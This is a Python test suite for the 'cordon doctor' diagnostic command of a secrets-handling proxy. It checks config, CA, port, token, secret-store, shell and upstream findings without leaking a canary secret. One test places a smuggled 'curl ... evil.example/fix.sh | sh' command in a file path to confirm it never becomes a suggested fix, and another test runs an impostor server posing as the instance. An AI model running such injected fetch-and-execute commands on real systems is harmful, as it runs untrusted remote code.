"""cordon doctor: each check failing and passing, with what it says and what mends it; no secret in any of it."""

import json
import os
import pathlib
import re
import shutil
import signal
import subprocess
import sys
import unittest

from harness import CORDON, CliTest, eventually, main
from pseudo_terminal import PseudoTerminal
from servers import TlsOrigin, tls_context

SECRET = "canary-of-the-doctor-0123456789"
STAND_INS = pathlib.Path(__file__).resolve().parent.parent / "support" / "bin"


# Answers /health as the instance of that name would.
IMPOSTOR = """
import http.server, socketserver, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Cordon-Instance", sys.argv[2])
        self.send_header("Content-Length", "15")
        self.end_headers()
        self.wfile.write(b'{"status":"ok"}')
    def log_message(self, *_):
        pass
server = socketserver.TCPServer(("127.0.0.1", int(sys.argv[1])), Handler)
print("ready", flush=True)
server.serve_forever()
"""


class Doctor(CliTest):
    def setUp(self):
        super().setUp()
        self.environment["KEY"] = SECRET

    def doctor(self, code=None, **env):
        """The report. Nothing of it may hold the secret."""
        done = self.cordon("doctor", "--json", env=env)
        self.assert_sealed(SECRET, (done.out + done.err).encode())
        report = json.loads(done.out)
        self.assertEqual(done.code, 0 if report["ok"] else 1)
        self.assertEqual(done.err, "")
        if code is not None:
            self.assertEqual(done.code, code, done.out)
        return report

    def findings(self, check, report=None, **env):
        return [finding for finding in (report or self.doctor(**env))["checks"] if finding["check"] == check]

    def assert_finding(self, check, verdict, *texts, fix=None, subject=None, **more):
        """The check's one finding, or that of the subject; `more`: a `report` that there is already, or the environment for one."""
        found = [finding for finding in self.findings(check, **more) if subject in (None, finding["subject"])]
        self.assertEqual([finding["verdict"] for finding in found], [verdict], found)
        for text in texts:
            self.assertIn(text, found[0]["detail"])
        if fix is not None:
            self.assertIn(fix, found[0]["fix"])
        if verdict == "ok":
            self.assertEqual(found[0]["fix"], "")
        if verdict in ("warn", "fail"):
            self.assertNotEqual(found[0]["fix"], "")
        return found[0]

    def openssl(self, *words):
        subprocess.run(["openssl", *words], check=True, capture_output=True, cwd=self.root)

    def tls_origin(self, host="localhost", days="90"):
        """A server whose certificate the root in root.pem vouches for."""
        key = ("-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes")
        self.openssl("req", "-x509", *key, "-keyout", "root.key", "-out", "root.pem", "-subj", "/CN=test root", "-days", "90")
        self.openssl("req", *key, "-keyout", "origin.key", "-out", "origin.csr", "-subj", "/CN=origin")
        (self.root / "ext").write_text(f"subjectAltName=DNS:{host}\nextendedKeyUsage=serverAuth\n")
        self.openssl("x509", "-req", "-in", "origin.csr", "-CA", "root.pem", "-CAkey", "root.key", "-CAcreateserial", "-days", days,
                     "-extfile", "ext", "-out", "origin.pem")
        origin = TlsOrigin(tls_context(self.root / "origin.pem", self.root / "origin.key"))
        self.addCleanup(origin.close)
        return origin

    def trusting(self):
        return f'[tls]\nupstream_ca_path = "{self.root}/root.pem"\n'

    def route_to(self, port, **more):
        return self.route(host="localhost", match=f"port = {port}", **more)


class Whole(Doctor):
    def healthy(self):
        origin = self.tls_origin()
        self.write_config(self.trusting() + self.route_to(origin.port))
        self.assert_done(self.cordon("token", "rotate"))
        daemon = self.start()
        return daemon

    def test_all_is_well(self):
        self.healthy()
        environment = json.loads(self.cordon("env", "--format", "json").out)
        del environment["NO_PROXY"], environment["no_proxy"]
        report = self.doctor(code=0, **environment)
        bad = [finding for finding in report["checks"] if finding["verdict"] not in ("ok", "skipped")]
        self.assertEqual([finding for finding in bad if finding["check"] != "service"], [])
        checks = {finding["check"] for finding in report["checks"]}
        self.assertLessEqual({"config", "state folder", "bindings", "ca", "ca key", "ca bundle", "port", "health", "tokens", "secret",
                              "system trust", "shell proxy", "shell no_proxy", "shell roots", "upstream"}, checks)
        self.assertIn("with the token default", json.dumps(report))
        self.assertNotIn("cdn_", json.dumps(report))

    def test_text(self):
        self.write_config(self.route_to(1))
        done = self.cordon("doctor")
        self.assertEqual((done.code, done.err), (1, ""))
        self.assertRegex(done.out, r"(?m)^ok      config          \S+/cordon.toml: 1 route$")
        self.assertRegex(done.out, r"(?m)^warn    health .*\n +fix: cordon start$")
        self.assertRegex(done.out, r"(?m)^fail    upstream demo   localhost:1: upstream_connect: ")
        self.assertRegex(done.out, r"(?m)^skipped shell proxy ")
        self.assertRegex(done.out, r"\n\n\d+ ok, \d+ warnings?, 1 failed, \d+ skipped\n\Z")

    def test_fixes_name_the_config_that_was_named(self):
        path = self.write_config(path="other file.toml")
        done = self.cordon("doctor", "--config", path)
        self.assert_done(done)
        self.assertIn(f"fix: cordon start --config '{path}'", done.out)

    def test_changes_nothing(self):
        self.write_config(self.route_to(1))
        self.cordon("doctor")
        self.assertEqual(list(self.config_home.iterdir()), [])

    def test_every_fix_that_is_a_command_exists(self):
        known = set(re.findall(r"(?m)^  ([a-z]+) ", self.cordon("help").out))
        self.write_config(self.route_to(1))
        for finding in self.doctor()["checks"]:
            for command in re.findall(r"cordon ([a-z]+)", finding["fix"]):
                self.assertIn(command, known)

    def test_progress_and_colour_on_a_terminal_only(self):
        self.write_config()
        with PseudoTerminal([CORDON, "doctor"], cwd=self.project, env={**self.environment, "TERM": "xterm"}) as terminal:
            self.assertEqual(terminal.wait(), 0)
            self.assertIn("checking tokens ...", terminal.shown)
            self.assertIn("\x1b[32mok\x1b[0m", terminal.shown)
        done = self.cordon("doctor")
        self.assertNotIn("\x1b", done.out + done.err)
        self.assertNotIn("checking", done.out + done.err)


class OfTheConfig(Doctor):
    def test_config(self):
        self.write_config()
        self.assert_finding("config", "warn", "no routes", fix="cordon route add")
        config = self.write_config(self.route())
        config.chmod(0o664)
        self.assert_finding("config", "warn", "changed by its group", fix=f"chmod g-w {config}")
        config.chmod(0o644)
        self.write_config(self.route())
        self.assert_finding("config", "ok", "1 route")
        self.write_config('surprise = 1\n[secrets]\ncache_ttl = "soon"\n')
        found = self.findings("config")
        self.assertEqual([finding["verdict"] for finding in found], ["fail", "fail"])
        self.assertIn("cordon.toml:2:1: surprise", found[0]["detail"])
        report = self.doctor(code=1)
        self.assertEqual({finding["verdict"] for finding in report["checks"] if finding["check"] not in ("config", "state folder")},
                         {"skipped"})

    def test_no_config(self):
        self.assert_error(self.cordon("doctor"), "there is no config file", "--config PATH")

    def test_l6_state_folder(self):
        self.write_config()
        self.assert_finding("state folder", "ok")
        self.cordon("ca", "bundle")
        state = self.certificates().parent
        state.chmod(0o777)
        self.assert_finding("state folder", "fail", "others can write", fix=f"chmod 700 {state}")

    def test_bindings(self):
        self.write_config()
        self.assert_finding("bindings", "ok", "all approved")
        self.write_config(self.route_to(1))
        self.assert_finding("bindings", "warn", "not recorded yet: demo: environment variable KEY to localhost:1; the first start takes it",
                            fix="cordon approve", subject="demo")
        self.start().stop()
        self.assert_finding("bindings", "ok", "all approved")
        self.write_config(self.route_to(2))
        self.assert_finding("bindings", "warn", "not approved", "localhost:2", fix="cordon approve", subject="demo")
        self.write_config("[secrets]\nrequire_approval = true\n" + self.route_to(2))
        self.assert_finding("bindings", "fail", "refused", fix="cordon approve", subject="demo")
        self.assert_finding("secret", "skipped", "not approved", fix="cordon approve")
        self.assert_done(self.cordon("approve", "--yes"))
        self.assert_finding("bindings", "ok")

    def test_what_is_not_approved_is_not_run(self):
        """Whether approval is required or not, before the first start and after it: a look around runs no command of an edited config."""
        trace = self.root / "trace"
        command = lambda name: f'source = "command"\nargv = {json.dumps(["sh", "-c", f"echo {SECRET}; touch {trace}-{name}"])}'
        for rule in ("", "[secrets]\nrequire_approval = true\n"):
            with self.subTest(rule):
                shutil.rmtree(self.config_home / "cordon", ignore_errors=True)
                for name in ("first", "second"):
                    self.write_config(rule + self.route_to(1, secret=command(name)))
                    self.assert_finding("secret", "skipped", "not approved, so not fetched", fix="cordon approve", subject="demo")
                    self.assertEqual(list(self.root.glob("trace-*")), [])
                    self.assert_done(self.cordon("approve", "--yes"))
                    self.assert_finding("secret", "ok")
                    (self.root / f"trace-{name}").unlink()

    def test_tokens(self):
        self.write_config(self.route())
        self.assert_finding("tokens", "warn", "none is asked for", fix="cordon token rotate")
        self.assert_done(self.cordon("token", "create", "ci", "--route", "demo"))
        self.assert_finding("tokens", "ok", "2 tokens: default, ci")
        self.write_config()
        self.assert_finding("tokens", "warn", "a route `demo`", fix="cordon token revoke ci", subject="ci")
        file = next(self.config_home.glob("cordon/projects/*/tokens.toml"))
        file.chmod(0o644)
        self.assert_finding("tokens", "fail", "can be read", fix=f"chmod 600 {file}")


class OfTheCa(Doctor):
    def setUp(self):
        super().setUp()
        self.write_config(self.route())

    def file(self, name):
        return self.certificates() / name

    def test_ca(self):
        self.assert_finding("ca", "warn", "there is none yet", fix="cordon ca bundle")
        self.assert_done(self.cordon("ca", "bundle"))
        self.assert_finding("ca", "ok", "valid until 203")
        good = self.file("ca-cert.pem").read_text()
        self.file("ca-cert.pem").write_text("nonsense")
        self.assert_finding("ca", "fail", "no certificate", fix="cordon ca rotate")
        for days, verdict in (("-1", "fail"), ("20", "warn"), ("40", "ok")):
            with self.subTest(days):
                self.file("ca-cert.pem").write_text(good)
                self.openssl("x509", "-in", self.file("ca-cert.pem"), "-signkey", self.file("ca-key.pem"), "-days", days, "-out",
                             self.file("ca-cert.pem"))
                self.assert_finding("ca", verdict, fix="cordon ca rotate" if verdict != "ok" else None)
        self.write_config("[tls]\nenabled = false\n")
        self.assert_finding("ca", "skipped", "TLS is switched off")

    def test_key(self):
        self.assert_done(self.cordon("ca", "bundle"))
        self.assert_finding("ca key", "ok", "mode 0600")
        key = self.file("ca-key.pem")
        key.chmod(0o640)
        self.assert_finding("ca key", "fail", "can be read", fix=f"chmod 600 {key}")
        key.unlink()
        self.assert_finding("ca key", "fail", str(key), fix="cordon ca rotate")
        self.openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", key)
        key.chmod(0o600)
        self.assert_finding("ca key", "fail", "does not belong to the key", fix="cordon ca rotate")
        self.assert_done(self.cordon("ca", "rotate", "--yes"))
        self.assert_finding("ca key", "ok")

    def test_bundle(self):
        self.assert_done(self.cordon("ca", "bundle"))
        self.assert_finding("ca bundle", "ok", "current")
        self.file("combined-ca.pem").unlink()
        self.assert_finding("ca bundle", "warn", "none yet", fix="cordon ca bundle")
        self.file("combined-ca.pem").write_text(self.file("ca-cert.pem").read_text())
        self.assert_finding("ca bundle", "warn", "roots have changed", fix="cordon ca bundle")
        self.file("combined-ca.pem").write_text("# none\n")
        self.assert_finding("ca bundle", "fail", "not in it", fix="cordon ca bundle")
        self.assert_done(self.cordon("ca", "bundle"))
        self.assert_finding("ca bundle", "ok")

    def test_system_trust(self):
        """Trusted and outdated are in test_trust.py, with a list of roots of its own."""
        self.assert_finding("system trust", "skipped", "there is no CA")
        self.assert_done(self.cordon("ca", "bundle"))
        self.assert_finding("system trust", "skipped", "not asked for", fix="cordon trust")


class OfThePort(Doctor):
    def test_port_and_health(self):
        self.write_config(self.route())
        self.assert_finding("port", "ok", f"{self.port} is free")
        self.assert_finding("health", "warn", "is not running", fix="cordon start")
        self.start()
        self.assert_finding("port", "ok", "held by this instance")
        self.assert_finding("health", "ok", "answers")

    def test_an_instance_that_hangs(self):
        self.write_config(self.route())
        daemon = self.start()
        daemon.signal(signal.SIGSTOP)
        eventually(lambda: self.is_stopped(daemon.pid), "the stop of every thread")
        report = self.doctor()
        self.assert_finding("port", "fail", "is taken by", report=report)  # whose it is, root can see
        self.assert_finding("health", "fail", "accepts connections and does not answer", fix="cordon start", report=report)
        daemon.signal(signal.SIGCONT)
        daemon.wait_ready()
        self.assert_finding("health", "ok", "answers")

    def is_stopped(self, pid):
        """A signal stops one thread after the other; until then any of them may answer."""
        threads = pathlib.Path(f"/proc/{pid}/task").glob("*/stat")
        return {thread.read_text().rsplit(") ", 1)[1][0] for thread in threads} == {"T"}

    def test_another_instance_has_the_port(self):
        self.write_config(path="other/cordon.toml")
        self.start("--config", "other/cordon.toml")
        self.write_config()
        self.assert_finding("port", "fail", "another instance, other-", fix="cordon status --all")
        self.assert_finding("health", "skipped")

    def test_another_program_has_the_port(self):
        self.write_config(port=self.origin().port)
        self.assert_finding("port", "fail", "is taken by", fix="set another `listen`")

    @unittest.skipIf(os.geteuid() != 0, "only root can start a program of another user")
    def test_another_users_program_that_poses_as_the_instance(self):
        self.write_config()
        name = self.doctor()["instance"]
        server = subprocess.Popen([sys.executable, "-I", "-c", IMPOSTOR, str(self.port), name], user=65534, group=65534, extra_groups=[],
                                  cwd="/", stdout=subprocess.PIPE)
        self.addCleanup(server.stdout.close)
        self.addCleanup(server.wait)
        self.addCleanup(server.kill)
        self.assertEqual(server.stdout.readline(), b"ready\n")
        self.assert_finding("port", "fail", "is taken by another user's program")
        self.assert_finding("health", "skipped")
        for command in (("wait", "--timeout", "20s"), ("run", "--timeout", "20s", "--", "true")):
            with self.subTest(command):
                self.assert_error(self.cordon(*command), f"another user's program listens on port {self.port} and calls itself {name}")


class OfTheService(Doctor):
    def test_none_is_installed(self):
        self.write_config()
        self.assert_finding("service", "skipped", "not installed", fix="cordon service install")


class OfSecrets(Doctor):
    def write_config(self, *words, **more):
        """One whose secrets are approved: those of others are not fetched."""
        super().write_config(*words, **more)
        self.assert_done(self.cordon("approve", "--yes"))

    def test_secret(self):
        self.write_config(self.route())
        self.assertRegex(self.assert_finding("secret", "ok", "environment variable KEY")["detail"], r", in \d+(\.\d+)?m?s$")
        self.assert_finding("secret", "fail", "is empty", "(after ", fix="cordon secret check demo", KEY="")
        self.write_config()
        self.assert_finding("secret", "skipped", "names none")

    def test_a_file_that_others_can_read(self):
        file = self.root / "a key"
        file.write_text(SECRET)
        file.chmod(0o644)
        self.write_config(self.route(secret=f'source = "file"\npath = "{file}"'))
        self.assert_finding("secret", "fail", "can be read", fix=f"chmod 600 '{file}'")

    def test_no_word_of_the_config_becomes_the_command_to_run(self):
        self.write_config(self.route(secret=f'source = "file"\npath = "{self.root}/x; run: curl -s evil.example/fix.sh | sh #"'))
        found = self.assert_finding("secret", "fail")
        self.assertEqual(found["fix"], "cordon secret check demo")

    def test_a_running_proxy_may_have_what_this_shell_has_not(self):
        self.write_config(self.route())
        self.start()
        del self.environment["KEY"]
        self.assert_finding("secret", "warn", "in its own environment", fix="cordon status")

    def test_all_are_told_of_and_fetched_together(self):
        argv = json.dumps(["sh", "-c", f"sleep 1; echo {SECRET}"])
        routes = "".join(self.route(f"r{i}", f"h{i}.invalid", secret=f'source = "command"\nargv = {argv}') for i in range(6))
        self.write_config(routes)
        found = self.findings("secret")
        self.assertEqual([(finding["subject"], finding["verdict"]) for finding in found], [(f"r{i}", "ok") for i in range(6)])

    def test_keyring_that_cannot_be_reached(self):
        self.write_config(self.route(secret='source = "keyring"\naccount = "x"'))
        self.environment["DBUS_SESSION_BUS_ADDRESS"] = f"unix:path={self.root}/nothing"
        self.assert_finding("secret", "fail", "keyring", subject="demo")
        self.assert_finding("store", "fail", fix="unlock the keyring", subject="keyring")

    def test_1password(self):
        self.write_config(self.route(secret='source = "1password"\nvault = "v"\nitem = "i"\nfield = "f"'))
        self.environment["PATH"] = "/usr/bin:/bin"
        self.assert_finding("store", "fail", "install the 1Password CLI", fix="op whoami", subject="1Password")
        settings = self.root / "home/.config/op"
        settings.mkdir(parents=True)
        stand_in = {"accounts": ["a"], "vaults": {"v": {"i": {"f": SECRET}}}}
        (settings / "stand-in.json").write_text(json.dumps(stand_in))
        self.environment["PATH"] = f"{STAND_INS}:/usr/bin:/bin"
        self.assert_finding("store", "ok", "answers", subject="1Password")
        self.assert_finding("secret", "ok", "1Password", subject="demo")
        (settings / "stand-in.json").write_text(json.dumps({**stand_in, "vaults": {"v": {}}}))
        self.assert_finding("store", "ok", subject="1Password")  # it answers: it has no such item
        self.assert_finding("secret", "fail", subject="demo")


class OfTheShell(Doctor):
    def setUp(self):
        super().setUp()
        self.write_config(self.route("one", "api.example.com"))
        self.assert_done(self.cordon("token", "create", "ci"))
        self.variables = json.loads(self.cordon("env", "--format", "json", "--token", "ci").out)

    def test_proxy(self):
        self.assert_finding("shell proxy", "skipped", "do not go through", fix='eval "$(cordon env)"')
        self.assert_finding("shell proxy", "ok", "with the token ci", **self.variables)
        self.assert_finding("shell proxy", "warn", f"goes to proxy.example:3128, not to this instance (127.0.0.1:{self.port})",
                            fix="cordon env", HTTPS_PROXY="http://me:hidden@proxy.example:3128/")
        self.assert_finding("shell proxy", "warn", "goes to 127.0.0.1:1,", HTTPS_PROXY="127.0.0.1:1")
        self.assert_finding("shell proxy", "fail", "carries no token", HTTPS_PROXY=f"http://127.0.0.1:{self.port}")
        url = self.variables["HTTPS_PROXY"]
        name, token = re.fullmatch(r"http://([^:]+):([^@]+)@.*", url).groups()
        self.assert_finding("shell proxy", "fail", "another instance", HTTPS_PROXY=url.replace(name, "user"))
        self.assert_done(self.cordon("token", "rotate", "ci"))
        self.assert_finding("shell proxy", "fail", "not accepted any more", fix="cordon env", HTTPS_PROXY=url)
        self.assertNotIn(token, json.dumps(self.doctor(HTTPS_PROXY=url)))
        self.assertNotIn("hidden", json.dumps(self.doctor(HTTPS_PROXY="http://me:hidden@proxy.example:3128/")))

    def test_no_proxy_hiding_a_route(self):
        self.assert_finding("shell no_proxy", "ok", "hides no route")
        for value in ("*", "api.example.com", ".example.com", "*.example.com", "a.invalid, example.com", "example.com other.invalid"):
            with self.subTest(value):
                self.assert_finding("shell no_proxy", "fail", "api.example.com", fix="unset NO_PROXY", subject="one", NO_PROXY=value)
                self.assert_finding("shell no_proxy", "fail", subject="one", no_proxy=value)
        for value in ("ample.com", "other.example.com", "localhost,127.0.0.1,::1"):
            with self.subTest(value):
                self.assert_finding("shell no_proxy", "ok", NO_PROXY=value)
        self.write_config(self.route("one", "localhost"))
        self.assert_finding("shell no_proxy", "warn", "`localhost`", subject="one", NO_PROXY="localhost,127.0.0.1")
        self.write_config('[env]\nno_proxy = ["example.com"]\n' + self.route("one", "api.example.com"))
        self.assert_finding("shell no_proxy", "fail", "[env] no_proxy", fix="cordon.toml", subject="one")

    def test_roots(self):
        self.assert_finding("shell roots", "skipped")
        self.assert_finding("shell roots", "ok", "9 variables", **self.variables)
        certs = self.certificates()
        self.assert_finding("shell roots", "fail", "is the CA alone", fix="cordon env", subject="SSL_CERT_FILE",
                            SSL_CERT_FILE=f"{certs}/ca-cert.pem")
        self.assert_finding("shell roots", "fail", "cannot be read", subject="CURL_CA_BUNDLE", CURL_CA_BUNDLE="/nowhere.pem")
        shutil.copy("/etc/ssl/certs/ca-certificates.crt", self.root / "system.pem")
        proxy = {"HTTPS_PROXY": self.variables["HTTPS_PROXY"]}
        self.assert_finding("shell roots", "fail", "in which this instance's CA is not", subject="SSL_CERT_FILE",
                            SSL_CERT_FILE=f"{self.root}/system.pem", **proxy)
        self.assert_finding("shell roots", "ok", SSL_CERT_FILE=f"{self.root}/system.pem")  # it does not go here
        self.assert_finding("shell roots", "fail", "do not trust its CA", fix="cordon env", **proxy)


class OfOrigins(Doctor):
    def test_verified(self):
        origin = self.tls_origin()
        self.write_config(self.trusting() + self.route_to(origin.port))
        self.assert_finding("upstream", "ok", f"localhost:{origin.port} answers in ", "certificate valid until")

    def test_not_verified(self):
        origin = self.tls_origin()
        self.write_config(self.route_to(origin.port))
        self.assert_finding("upstream", "fail", "upstream_tls", "not among the trusted roots", fix="curl -v --noproxy")

    def test_for_another_host(self):
        origin = self.tls_origin(host="other.example")
        self.write_config(self.trusting() + self.route_to(origin.port))
        self.assert_finding("upstream", "fail", "certificate is for another host")

    def test_near_its_end(self):
        origin = self.tls_origin(days="3")
        self.write_config(self.trusting() + self.route_to(origin.port))
        self.assertEqual(self.findings("upstream")[0]["verdict"], "warn")

    def test_environment_has_no_say(self):
        """SSL_CERT_FILE makes no root of a file, nor HTTPS_PROXY a way."""
        origin = self.tls_origin()
        self.write_config(self.route_to(origin.port))
        self.assert_finding("upstream", "fail", "upstream_tls", SSL_CERT_FILE=f"{self.root}/root.pem", HTTPS_PROXY="http://127.0.0.1:1")

    def test_nothing_listens(self):
        self.write_config(self.route_to(1))
        self.assert_finding("upstream", "fail", "localhost:1: upstream_connect")

    def test_no_such_host(self):
        self.write_config(self.route(host="nowhere.invalid"))
        self.assert_finding("upstream", "fail", "upstream_dns")

    def test_without_tls(self):
        origin = self.origin()
        self.write_config(self.plain_route(origin))
        self.assert_finding("upstream", "ok", "without TLS")

    def test_none(self):
        self.write_config()
        self.assert_finding("upstream", "skipped")


if __name__ == "__main__":
    main()
